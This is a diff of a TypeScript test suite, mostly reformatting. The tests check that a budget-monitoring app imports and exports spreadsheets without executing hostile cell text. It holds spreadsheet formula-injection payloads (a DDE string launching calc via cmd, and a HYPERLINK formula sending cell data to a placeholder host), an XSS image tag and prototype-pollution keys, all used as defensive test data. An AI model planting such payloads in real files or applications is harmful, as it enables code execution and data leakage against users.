@@ -24,7 +24,7 @@ const IMG = '<img src=x onerror=alert(1)>'
 const HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"点我")'
 const DDE = "+cmd|' /C calc'!A0"
 const AT = '@SUM(1)'
-const MINUS = '-2+3+cmd|\' /C calc\'!A0'
+const MINUS = "-2+3+cmd|' /C calc'!A0"
 /** A leading tab is trimmed by the importer like any surrounding blank; what is left stays text. */
 const TAB = '\t=1+1'
 const POLLUTERS = ['__proto__', 'constructor', 'prototype'] as const
@@ -71,19 +71,90 @@ async function hostileWorkbook(edit?: (wb: ExcelJS.Workbook) => void): Promise<U
   const budget = sheetOf(wb, '预算执行')
   // 支出类别, 经费类型, 项目名称, 责任科室, 预算项目名称, 资金来源, 年初预算, 追加, 追减, 上年结转, 12 × 执行数, 12 × 到位资金
   const rows: [string | null, string][] = [
-    [SCRIPT, IMG], [IMG, HYPERLINK], [HYPERLINK, DDE], [DDE, AT], [AT, MINUS], [MINUS, TAB],
-    ['__proto__', '__proto__'], ['constructor', 'constructor'], ['prototype', 'prototype'],
+    [SCRIPT, IMG],
+    [IMG, HYPERLINK],
+    [HYPERLINK, DDE],
+    [DDE, AT],
+    [AT, MINUS],
+    [MINUS, TAB],
+    ['__proto__', '__proto__'],
+    ['constructor', 'constructor'],
+    ['prototype', 'prototype'],
   ]
   rows.forEach(([project, line], i) => {
-    budget.getRow(i + 2).values = ['项目支出', null, project, IMG, line, '财政拨款', 100, null, null, null, ...june(10, 20)]
+    budget.getRow(i + 2).values = [
+      '项目支出',
+      null,
+      project,
+      IMG,
+      line,
+      '财政拨款',
+      100,
+      null,
+      null,
+      null,
+      ...june(10, 20),
+    ]
   })
   const indicators = sheetOf(wb, '绩效指标')
   indicators.getRow(2).values = ['整体', SCRIPT, IMG, HYPERLINK, '定性', DDE, null, 10, null, null, AT]
-  indicators.getRow(3).values = ['整体', '产出指标', '数量指标', '__proto__', '≥', 100, '宗', 10, '累计型', null, 'constructor']
-  indicators.getRow(4).values = ['__proto__', 'prototype', 'constructor', '__proto__', '≥', 5, '个', 5, '累计型', null, null]
+  indicators.getRow(3).values = [
+    '整体',
+    '产出指标',
+    '数量指标',
+    '__proto__',
+    '≥',
+    100,
+    '宗',
+    10,
+    '累计型',
+    null,
+    'constructor',
+  ]
+  indicators.getRow(4).values = [
+    '__proto__',
+    'prototype',
+    'constructor',
+    '__proto__',
+    '≥',
+    5,
+    '个',
+    5,
+    '累计型',
+    null,
+    null,
+  ]
   const readings = sheetOf(wb, '指标填报')
-  readings.getRow(2).values = ['2024-06-30', '整体', SCRIPT, IMG, HYPERLINK, null, IMG, '部分达成', 50, SCRIPT, '有可能', null, HYPERLINK]
-  readings.getRow(3).values = ['2024-06-30', '整体', '产出指标', '数量指标', '__proto__', 40, '__proto__', null, null, 'constructor', '有可能', null, TAB]
+  readings.getRow(2).values = [
+    '2024-06-30',
+    '整体',
+    SCRIPT,
+    IMG,
+    HYPERLINK,
+    null,
+    IMG,
+    '部分达成',
+    50,
+    SCRIPT,
+    '有可能',
+    null,
+    HYPERLINK,
+  ]
+  readings.getRow(3).values = [
+    '2024-06-30',
+    '整体',
+    '产出指标',
+    '数量指标',
+    '__proto__',
+    40,
+    '__proto__',
+    null,
+    null,
+    'constructor',
+    '有可能',
+    null,
+    TAB,
+  ]
   // Template v2 sheets: 监控小组, 绩效目标 and 纠偏措施 carry free text too.
   sheetOf(wb, '监控小组').getRow(2).values = [SCRIPT, HYPERLINK, '组长']
   sheetOf(wb, '绩效目标').getRow(2).values = ['整体', `${IMG}${DDE}`]
@@ -137,11 +208,17 @@ describe('hostile text in an imported workbook', () => {
     expect(hostile).toMatchObject({ level1: SCRIPT, level2: IMG, operator: '定性', targetValue: DDE, targetLabel: AT })
     expect(indicators.filter((i) => i.name === '__proto__')).toHaveLength(2)
     const readings = await database.readings.toArray()
-    expect(readings.find((r) => r.indicatorId === hostile?.id)).toMatchObject({ actualLabel: IMG, yearEndForecast: SCRIPT, deviationText: HYPERLINK })
+    expect(readings.find((r) => r.indicatorId === hostile?.id)).toMatchObject({
+      actualLabel: IMG,
+      yearEndForecast: SCRIPT,
+      deviationText: HYPERLINK,
+    })
     expect(readings.map((r) => r.deviationText)).toContain('=1+1')
     expect(unit.monitoringGroup).toEqual([expect.objectContaining({ name: SCRIPT, title: HYPERLINK })])
     expect((await database.targets.toArray()).find((t) => t.scope === 'unit')?.description).toBe(`${IMG}${DDE}`)
-    expect(await database.measures.toArray()).toEqual([expect.objectContaining({ content: AT, effect: SCRIPT, department: '__proto__' })])
+    expect(await database.measures.toArray()).toEqual([
+      expect.objectContaining({ content: AT, effect: SCRIPT, department: '__proto__' }),
+    ])
 
     // Nothing but strings, numbers, booleans, arrays and plain objects came out of the workbook.
     const all = await snapshot(database)
@@ -170,12 +247,16 @@ describe('hostile text in an imported workbook', () => {
     const wb = new ExcelJS.Workbook()
     await wb.xlsx.load(exported)
     const cells: ExcelJS.Cell[] = []
-    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => {
-      const v = cell.value
-      if (typeof v === 'string' && /^[=+\-@]|<|__proto__|constructor|prototype/.test(v)) cells.push(cell)
-    }))
+    for (const ws of wb.worksheets)
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          const v = cell.value
+          if (typeof v === 'string' && /^[=+\-@]|<|__proto__|constructor|prototype/.test(v)) cells.push(cell)
+        }),
+      )
     const values = cells.map((c) => c.value)
-    for (const s of [SCRIPT, IMG, HYPERLINK, DDE, AT, MINUS, '=1+1', `${IMG}${DDE}`, ...POLLUTERS]) expect(values).toContain(s)
+    for (const s of [SCRIPT, IMG, HYPERLINK, DDE, AT, MINUS, '=1+1', `${IMG}${DDE}`, ...POLLUTERS])
+      expect(values).toContain(s)
     for (const cell of cells) {
       expect(cell.type, `${cell.worksheet.name}!${cell.address}`).toBe(ExcelJS.ValueType.String)
       expect(cell.formula).toBeUndefined()
@@ -192,9 +273,15 @@ describe('hostile text in an imported workbook', () => {
 
   it('takes a real formula cell as its cached result text, never as the formula', async () => {
     const database = freshDb()
-    await importInto(database, await hostileWorkbook((wb) => {
-      sheetOf(wb, '预算执行').getCell('E2').value = { formula: 'HYPERLINK("http://example.invalid","点我")', result: '点我' }
-    }))
+    await importInto(
+      database,
+      await hostileWorkbook((wb) => {
+        sheetOf(wb, '预算执行').getCell('E2').value = {
+          formula: 'HYPERLINK("http://example.invalid","点我")',
+          result: '点我',
+        }
+      }),
+    )
     const names = (await database.budgetLines.toArray()).map((l) => l.name)
     expect(names).toContain('点我')
     expect(names.some((n) => n.includes('HYPERLINK("http://example.invalid","点我")'))).toBe(false)
@@ -221,7 +308,9 @@ describe('prototype-pollution keys as sheet and header names', () => {
 
   for (const key of POLLUTERS) {
     it(`a header “${key}” in place of 预算项目名称 is named in a Chinese message and writes nothing`, async () => {
-      const bytes = await hostileWorkbook((wb) => { sheetOf(wb, '预算执行').getCell('E1').value = key })
+      const bytes = await hostileWorkbook((wb) => {
+        sheetOf(wb, '预算执行').getCell('E1').value = key
+      })
       const preview = await previewWorkbook(bytes, database)
       expect(preview.ok).toBe(false)
       if (preview.ok) return
@@ -245,7 +334,9 @@ describe('prototype-pollution keys as sheet and header names', () => {
       const fresh = freshDb()
       await importInto(fresh, bytes)
       expect((await fresh.projects.toArray()).map((p) => p.name)).toContain(key)
-      expect(storedStrings(await snapshot(fresh)).some((s) => s.includes('polluted') || s.includes('isAdmin'))).toBe(false)
+      expect(storedStrings(await snapshot(fresh)).some((s) => s.includes('polluted') || s.includes('isAdmin'))).toBe(
+        false,
+      )
     })
   }
 })
